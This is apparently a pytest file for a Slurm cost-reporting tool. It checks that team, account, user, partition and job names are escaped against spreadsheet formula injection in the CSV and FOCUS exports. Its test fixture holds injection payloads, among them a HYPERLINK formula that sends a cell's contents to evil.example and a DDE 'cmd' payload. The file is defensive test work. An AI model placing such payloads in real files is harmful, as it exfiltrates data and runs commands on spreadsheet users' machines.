"""Issue 16 item 5: names that Slurm users choose (account -> team, user, partition, job) never
reach a spreadsheet as formulas, in the cost CSV or the FOCUS export."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from account_helpers import T0

from provisioner.account.csv_safe import safe_cell
from provisioner.account.focus import iter_focus_csv
from provisioner.account.reports import cost_report, report_to_csv
from provisioner.domain.records import LedgerEntry

HOSTILE = {
    "team": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "account": "+cmd|' /C calc'!A0",
    "user": "@SUM(1+1)",
    "partition": "-2+3",
    "job_id": "\t=1+1",
}


def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("-1.500000") == "-1.500000"
    assert safe_cell("1e-05") == "1e-05"
    assert safe_cell("vision") == "vision"
    assert safe_cell(3) == 3


def _seed(store):
    store.add_ledger(
        [
            LedgerEntry(
                start_ts=T0,
                end_ts=T0 + 60,
                kind="onprem",
                cost=Decimal("-1.25"),
                node_name="gpu-01",
                **HOSTILE,
            )
        ]
    )


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_cost_csv_neutralises_hostile_names(store):
    _seed(store)
    report = cost_report(store, ["team", "account", "user", "partition"], T0, T0 + 3600)
    cells = _cells(report_to_csv(report))
    for value in ("team", "account", "user", "partition"):
        assert "'" + HOSTILE[value] in cells
    assert "-1.250000" in cells  # a negative amount is still a number
    assert not any(c[:1] in ("=", "+", "@", "\t") for c in cells)


def test_focus_export_neutralises_hostile_names(store):
    _seed(store)
    cells = _cells("".join(iter_focus_csv(store, T0, T0 + 3600)))
    assert "'" + HOSTILE["team"] in cells and "'" + HOSTILE["job_id"] in cells
    assert not any(c[:1] in ("=", "+", "@", "\t") for c in cells)
    assert not any(
        c.startswith("-") and not c.replace("-", "", 1).replace(".", "").isdigit() for c in cells
    )
